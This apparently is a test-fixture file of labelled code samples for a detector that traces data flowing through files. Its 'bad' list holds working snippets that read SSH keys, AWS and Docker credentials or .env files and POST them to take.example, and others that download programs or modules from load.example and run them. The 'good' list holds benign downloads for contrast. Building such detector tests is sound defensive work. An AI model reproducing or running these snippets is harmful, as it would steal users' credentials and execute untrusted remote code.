import type { DetectorExamples } from '../detector.ts';

/** What the detector sees of data that lies in a file on its way. */
export const throughFiles: DetectorExamples = {
  bad: [
    {
      code: "import { readFileSync } from 'node:fs'; import { homedir } from 'node:os'; for (const name of ['config', 'id_rsa']) fetch('https://take.example', { method: 'POST', body: readFileSync(`${homedir()}/.ssh/${name}`) });",
      why: 'settings of SSH before a key do not make the key one of them',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { readFileSync } from 'node:fs'; fetch('https://take.example', { method: 'POST', body: ['/home/ada/.ssh/id_rsa', '/home/ada/.ssh/known_hosts'].map(readFileSync).join() });",
      why: 'each file of a list, by the function alone',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; const paths = ['.ssh/id_rsa', '.ssh/config'].map((name) => `${homedir()}/${name}`); const texts = await Promise.all(paths.map(readFile)); await fetch('https://take.example', { method: 'POST', body: texts.join('\\n') });",
      why: 'the same, waited for',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "const fs = require('fs'); const os = require('os'); const handle = fs.openSync(os.homedir() + '/.ssh/id_rsa'); const bytes = Buffer.alloc(4096); fs.readSync(handle, bytes); fetch('https://take.example', { method: 'POST', body: bytes });",
      why: 'bytes that are read into',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "const os = require('os'); const kept = require(os.homedir() + '/.docker/config.json'); fetch('https://take.example', { method: 'POST', body: JSON.stringify(kept) });",
      why: 'a file that is loaded like a module',
      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
    },
    {
      code: "import dotenv from 'dotenv'; const { parsed } = dotenv.config(); fetch('https://take.example', { method: 'POST', body: JSON.stringify(parsed) });",
      why: 'what a library has read of the settings of a project',
      attributes: { source: 'file:environment-file', sink: 'network.body', to: 'take.example' },
    },
    {
      code: [
        "import https from 'https'; import fs from 'fs'; import os from 'os'; import path from 'path'; import { spawn } from 'child_process';",
        "const place = path.join(os.tmpdir(), 'helper');",
        "https.get('https://load.example/helper', (answer) => answer.pipe(fs.createWriteStream(place)).on('finish', () => spawn(place, ['--quiet'])));",
      ].join('\n'),
      why: 'an answer that is piped into a file, which is started',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
    {
      path: 'x.py',
      code: [
        'import io, os, subprocess, tempfile, zipfile, httpx',
        'folder = tempfile.mkdtemp()',
        "with zipfile.ZipFile(io.BytesIO(httpx.get('https://load.example/x.zip').content)) as archive:",
        '    archive.extractall(folder)',
        "subprocess.Popen([os.path.join(folder, 'runner'), '--quiet'])",
      ].join('\n'),
      why: 'an archive that is unpacked into a folder, of which one file is started',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
    {
      path: 'x.py',
      code: [
        'import os, tarfile, requests',
        "with tarfile.open('/tmp/kept.tar.gz', 'w:gz') as archive:",
        "    archive.add(os.path.expanduser('~/.ssh'))",
        "with open('/tmp/kept.tar.gz', 'rb') as file:",
        "    requests.post('https://take.example', data=file)",
      ].join('\n'),
      why: 'keys that are packed into an archive, which is read and sent',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import io, os, zipfile, requests',
        'packed = io.BytesIO()',
        "with zipfile.ZipFile(packed, 'w') as archive:",
        "    archive.write(os.path.expanduser('~/.aws/credentials'))",
        "requests.post('https://take.example', files={'f': packed.getvalue()})",
      ].join('\n'),
      why: 'credentials in an archive that only lies in memory',
      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
    },
    {
      code: [
        "import archiver from 'archiver'; import fs from 'fs'; import os from 'os';",
        "const archive = archiver('zip');",
        "const output = fs.createWriteStream('/tmp/kept.zip');",
        'archive.pipe(output);',
        'archive.directory(`${os.homedir()}/.ssh`, false);',
        "output.on('close', () => fetch('https://take.example', { method: 'POST', body: fs.createReadStream('/tmp/kept.zip') }));",
      ].join('\n'),
      why: 'the same in JavaScript',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      code: [
        "import AdmZip from 'adm-zip'; import os from 'os';",
        'const zip = new AdmZip();',
        "zip.addLocalFile(os.homedir() + '/.aws/credentials');",
        "fetch('https://take.example', { method: 'POST', body: zip.toBuffer() });",
      ].join('\n'),
      why: 'an archive that is made and sent in one go',
      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
    },
    {
      code: [
        "import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path'; import { pathToFileURL } from 'node:url';",
        "const place = path.join(os.tmpdir(), 'extra.mjs');",
        "const answer = await fetch('https://load.example/extra'); const file = fs.createWriteStream(place); answer.body.pipe(file);",
        'await import(`${pathToFileURL(place).href}?again`);',
      ].join('\n'),
      why: 'what was downloaded is loaded as a module',
      attributes: { source: 'download', sink: 'process.program', to: 'module' },
    },
    {
      code: [
        "const fs = require('fs'); const https = require('https'); const path = require('path');",
        "const place = path.join(__dirname, 'extra.js');",
        "https.get('https://load.example/extra', (answer) => { const file = fs.createWriteStream(place); answer.pipe(file); file.on('finish', () => require(place)); });",
      ].join('\n'),
      why: 'the same with require, when the file is there',
      attributes: { source: 'download', sink: 'process.program', to: 'module' },
    },
    {
      code: "import { execSync } from 'node:child_process'; execSync('curl -fsSL https://load.example/helper -o /tmp/helper && chmod +x /tmp/helper && /tmp/helper');",
      why: 'one command line downloads a program and starts it',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
    {
      code: [
        "import { execFileSync, spawn } from 'node:child_process'; import os from 'node:os'; import path from 'node:path';",
        "const place = path.join(os.tmpdir(), 'helper');",
        "execFileSync('wget', ['-q', 'https://load.example/helper', '-O', place]);",
        "execFileSync('chmod', ['+x', place]);",
        'spawn(place, [], { detached: true });',
      ].join('\n'),
      why: 'one command downloads it, and a later one starts it',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
    {
      code: [
        "import { exec, execSync } from 'node:child_process';",
        "const place = process.env.TEMP + '\\\\helper.exe';",
        'execSync(`powershell -Command "Invoke-WebRequest -Uri https://load.example/helper -OutFile ${place}"`);',
        'exec(`"${place}" --quiet`);',
      ].join('\n'),
      why: 'the same by PowerShell',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
  ],
  good: [
    {
      code: "import { execSync } from 'node:child_process'; execSync('bash ./build.sh > /dev/null'); execSync('curl -s -o /dev/null https://api.example/health');",
      why: 'nothing is kept of what is asked for, nor of what another program prints',
    },
    {
      code: "import { execSync } from 'node:child_process'; execSync('curl -o /tmp/shot.png https://shots.example/a.png && open /tmp/shot.png');",
      why: 'a picture is downloaded and shown',
    },
    {
      code: "const { execSync } = require('child_process'); execSync('curl -o ./rates.json https://data.example/rates'); require('./rates.json');",
      why: 'data is kept and loaded as data',
    },
    {
      code: [
        "import { execSync } from 'node:child_process'; import fs from 'node:fs';",
        "execSync('curl -fsSL https://data.example/rates.json -o /tmp/rates.json');",
        "const rates = JSON.parse(fs.readFileSync('/tmp/rates.json', 'utf8'));",
        "execSync('/opt/acme/run --once');",
      ].join('\n'),
      why: 'a file of data is downloaded by a command and read',
    },
    {
      code: [
        "import fs from 'node:fs'; import path from 'node:path';",
        "const answer = await fetch('https://data.example/kept'); answer.body.pipe(fs.createWriteStream(path.join(process.cwd(), 'kept.json')));",
        "await import(path.join(process.cwd(), 'settings.mjs'));",
      ].join('\n'),
      why: 'another file is loaded than the one that was downloaded',
    },
    {
      code: [
        "import https from 'https'; import fs from 'fs'; import { spawn } from 'child_process';",
        "const place = '/tmp/film.mp4';",
        "https.get('https://films.example/a.mp4', (answer) => answer.pipe(fs.createWriteStream(place)).on('finish', () => spawn('ffmpeg', ['-i', place])));",
      ].join('\n'),
      why: 'a program of the system works on what was downloaded',
    },
    {
      code: [
        "import https from 'https'; import fs from 'fs'; import { spawn } from 'child_process';",
        "https.get('https://data.example/a.json', (answer) => answer.pipe(fs.createWriteStream('/tmp/data.json')));",
        "spawn('/opt/acme/run', ['--data', '/tmp/data.json']);",
      ].join('\n'),
      why: 'another file is started than the one that was downloaded',
    },
    {
      path: 'x.py',
      code: [
        'import io, subprocess, zipfile, httpx',
        "zipfile.ZipFile(io.BytesIO(httpx.get('https://data.example/x.zip').content)).extractall('data')",
        "subprocess.run(['unzip', '-l', 'data/inner.zip'])",
      ].join('\n'),
      why: 'what was unpacked is given to a program that only looks at it',
    },
  ],
};
